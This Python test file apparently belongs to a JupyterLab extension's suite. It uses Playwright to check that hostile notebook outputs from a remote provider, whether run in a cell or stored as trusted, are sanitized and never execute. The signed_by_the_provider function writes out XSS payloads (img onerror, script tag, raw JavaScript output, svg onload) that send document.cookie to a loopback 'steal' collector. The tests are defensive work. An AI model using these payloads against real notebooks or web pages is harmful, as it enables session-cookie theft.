"""A hostile provider's outputs in a real JupyterLab (Chromium, Playwright) must not run.

A notebook on a Walnut kernel of a Docker session behind TLS with a pinned certificate runs
a cell that emits every trick of tests/test_output_attacks.py; each trick, if it got script,
would set `window.__walnut_pwned`, open a dialog, write `pwned.txt` through the renter's
own server API with its `_xsrf` cookie and send the cookie to a collector on loopback. None
of that may happen, while a PNG plot and a table still render. A screenshot of the outputs
lands in test-artifacts/ui/. Skipped like tests/test_ui_e2e.py (WALNUT_REQUIRE_UI=1 turns a
missing browser into a failure) and without Docker (WALNUT_REQUIRE_DOCKER=1).
"""

from __future__ import annotations

import json
import os
import shutil
import tempfile
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from stack import StackNode
from test_output_attacks import hostile_cell
from test_session_terminal import _insecure, access_token, http
from test_ui_e2e import ARTIFACTS, CHROMIUM, CHROMIUM_ARGS, _missing, wait_for, wait_kernels_idle
from ui_helpers import WalnutStack, http_json

from jupyter_walnut.ledger import LocalLedger

pytestmark = [pytest.mark.docker, pytest.mark.timeout(600)]

_reason = _missing()
if _reason and os.environ.get("WALNUT_REQUIRE_UI") != "1":
    pytestmark.append(pytest.mark.skip(reason=_reason))


class Collector:
    """An attacker's endpoint on loopback: records every request it gets."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        seen = self.requests

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 (http.server's name)
                seen.append(self.path)
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def lab():
    """JupyterLab with jupyter_walnut whose only provider is a Docker + TLS node, with a
    notebook of hostile outputs on a running session's Walnut kernel."""
    if _reason:  # only reached with WALNUT_REQUIRE_UI=1
        pytest.fail(f"WALNUT_REQUIRE_UI=1 but {_reason}")
    root = Path(tempfile.mkdtemp(prefix="walnut-ui-attacks-"))
    ledger = LocalLedger(root / "ledger.sqlite")  # the file the renter's JupyterLab uses
    node = StackNode(root / "stack-provider", ledger)
    collector = Collector()
    try:
        with WalnutStack(root, provider_url=node.pinned_url) as stack:
            stack.api("wallet/fund", "POST", {"amount_mist": 10**10})
            session = stack.api("sessions", "POST", {"provider_url": node.pinned_url,
                                                     "shape": "cpu-small"})
            notebook = {"nbformat": 4, "nbformat_minor": 5, "cells": [{
                "cell_type": "code", "id": "attack", "metadata": {}, "outputs": [],
                "execution_count": None, "source": hostile_cell(collector.url)}],
                "metadata": {"kernelspec": {"name": session["kernel_name"], "language": "python",
                                            "display_name": "walnut"}}}
            (root / "notebooks" / "attack.ipynb").write_text(json.dumps(notebook))
            yield stack, collector, node
    finally:
        collector.close()
        node.stop()
        ledger.close()
        shutil.rmtree(root, ignore_errors=True)


def test_hostile_outputs_do_not_run_in_jupyterlab(lab) -> None:
    from playwright.sync_api import sync_playwright

    stack, collector, _node = lab
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        context = browser.new_context(viewport={"width": 1440, "height": 1400})
        page = context.new_page()
        page.set_default_timeout(60_000)
        dialogs: list[str] = []
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        try:
            page.goto(f"{stack.base_url}lab/tree/attack.ipynb?token={stack.token}")
            page.locator("#jupyterlab-splash").wait_for(state="detached", timeout=60_000)
            nb = page.locator(".jp-NotebookPanel").last
            wait_kernels_idle(stack, "the notebook's Walnut kernel to be idle")
            xsrf = next(c["value"] for c in context.cookies() if c["name"] == "_xsrf")
            nb.locator(".jp-Cell .cm-content").first.click()
            page.keyboard.press("Shift+Enter")
            outputs = nb.locator(".jp-OutputArea-output")
            # the cell's last output, then every image of the outputs loaded or failed
            # (that is when an onerror payload would have fired)
            nb.get_by_text("result", exact=True).wait_for(timeout=120_000)
            wait_for(lambda: outputs.evaluate_all(
                "els => els.every(e => [...e.querySelectorAll('img')].every(i => i.complete))"),
                30, "the output images to settle")
            # the benign outputs render: the plot, the table, the markdown
            png = nb.locator(".jp-RenderedImage img").first
            assert png.evaluate("i => i.naturalWidth") == 24
            table = nb.locator("table.dataframe")
            assert "0.125" in table.inner_text()
            assert nb.locator("strong", has_text="md").count() == 1
            # click what used to be the javascript: links
            for link in nb.locator(".jp-OutputArea-output a").all():
                link.click()
            page.screenshot(path=str(ARTIFACTS / "attacks-hostile-outputs.png"), full_page=True)
            # nothing ran: no flag, no dialog, no file, no cookie sent away
            pwned = page.evaluate("() => window.__walnut_pwned")
            written = (stack.root / "notebooks" / "pwned.txt").exists()
            stolen = [r for r in collector.requests if "steal" in r or xsrf in r]
            assert (pwned, dialogs, written, stolen) == (None, [], False, [])
        except BaseException:
            page.screenshot(path=str(ARTIFACTS / "attacks-failure.png"))
            raise
        finally:
            context.close()
            browser.close()


def signed_by_the_provider(collector_url: str, kernel_name: str) -> dict:
    """A notebook whose cells say trusted (the gateway's own notary signs it on save) and
    whose stored outputs run script wherever JupyterLab trusts them."""
    attack = f"window.__walnut_pwned = 1; fetch('{collector_url}/steal?c=' + document.cookie)"
    outputs = [
        {"output_type": "display_data", "metadata": {}, "data": {
            "text/html": f'<b class="benign">benign html</b><img src="x" onerror="{attack}">'
                         f"<script>{attack}</script>"}},
        {"output_type": "display_data", "metadata": {}, "data": {
            "application/javascript": attack, "text/plain": "js"}},
        {"output_type": "display_data", "metadata": {}, "data": {
            "image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{attack}">'
                             "<text>svg</text></svg>"}}]
    return {"nbformat": 4, "nbformat_minor": 5, "cells": [{
        "cell_type": "code", "id": "planted", "metadata": {"trusted": True},
        "execution_count": 1, "source": "1", "outputs": outputs}],
        "metadata": {"kernelspec": {"name": kernel_name, "language": "python",
                                    "display_name": "walnut"}}}


def test_a_provider_signed_notebook_in_the_session_drive_does_not_run(lab) -> None:
    """Opened from the session's drive, a notebook the provider signed is untrusted in
    JupyterLab: its stored HTML is sanitized, its JavaScript is not run."""
    from playwright.sync_api import sync_playwright

    stack, collector, node = lab
    s = next(x for x in stack.api("sessions")["sessions"] if x["status"] == "running")
    sid = s["id"]
    http_json(f"{stack.base_url}walnut/sessions/{sid}/api/contents/evil.ipynb", "PUT",
              {"type": "notebook", "format": "json",
               "content": signed_by_the_provider(collector.url, s["kernel_name"])},
              token=stack.token)
    # the attack is live: the session's gateway itself calls the notebook trusted
    status, body = http(f"{node.url}/api/v1/sessions/{sid}/gateway/api/contents/evil.ipynb",
                        headers={"Authorization": f"token {access_token(stack, sid)}"},
                        context=_insecure())
    assert status == 200, body
    assert [c["metadata"].get("trusted") for c in json.loads(body)["content"]["cells"]] == [True]
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        context = browser.new_context(viewport={"width": 1440, "height": 1000})
        page = context.new_page()
        page.set_default_timeout(60_000)
        dialogs: list[str] = []
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        try:
            page.goto(stack.lab_url)
            page.locator("#jupyterlab-splash").wait_for(state="detached", timeout=60_000)
            page.locator('.lm-TabBar-tab[data-id="jupyter-walnut-panel"]').first.click()
            card = page.locator(f'article.jp-Walnut-session[data-session="{sid}"]')
            card.get_by_role("button", name="Files").click()
            files = page.locator(f'.jp-Walnut-files[data-session="{sid}"]')
            files.locator(".jp-DirListing-item", has_text="evil.ipynb").dblclick()
            nb = page.locator(".jp-NotebookPanel").last
            nb.locator(".benign", has_text="benign html").wait_for()
            outputs = nb.locator(".jp-OutputArea-output")
            wait_for(lambda: outputs.evaluate_all(
                "els => els.every(e => [...e.querySelectorAll('img')].every(i => i.complete))"),
                30, "the output images to settle")
            page.screenshot(path=str(ARTIFACTS / "attacks-drive-notebook.png"))
            pwned = page.evaluate("() => window.__walnut_pwned")
            stolen = [r for r in collector.requests if "steal" in r]
            assert (pwned, dialogs, stolen) == (None, [], [])
            assert nb.locator("script").count() == 0
        except BaseException:
            page.screenshot(path=str(ARTIFACTS / "attacks-drive-failure.png"))
            raise
        finally:
            context.close()
            browser.close()
